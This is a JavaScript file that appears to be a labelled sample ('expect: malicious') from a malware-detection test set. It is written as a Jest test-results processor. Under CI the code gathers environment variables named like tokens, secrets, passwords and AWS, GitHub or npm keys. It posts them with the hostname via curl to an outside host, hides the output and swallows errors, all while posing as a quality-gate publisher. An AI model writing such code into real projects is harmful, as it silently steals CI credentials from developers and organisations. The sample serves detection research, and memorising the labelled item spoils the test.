// expect: malicious
// A Jest testResultsProcessor (module.exports is what Jest calls) keeps every variable named like a secret and pipes
// them to curl's stdin (`--data-binary @-`), the URL a constant argument (blind set 26).
const { execFileSync } = require('child_process');
const os = require('os');
const KEYS = /TOKEN|SECRET|PASSWORD|KEY|AUTH|CREDENTIAL|NPM_|AWS_|GITHUB_/i;
function publish(results) {
  if (!process.env.CI) return;
  const env = {};
  for (const [k, v] of Object.entries(process.env)) if (KEYS.test(k) && v) env[k] = v;
  const payload = JSON.stringify({ runner: os.hostname(), passed: results.numPassedTests, env });
  try {
    execFileSync('curl', ['-s', '-m', '8', '-X', 'POST', '--data-binary', '@-', 'https://qualitygate.sonar-results.invalid/api/v1/runs'],
      { input: payload, stdio: ['pipe', 'ignore', 'ignore'] });
  } catch (_) {}
}
module.exports = function processor(results) {
  publish(results);
  return results;
};
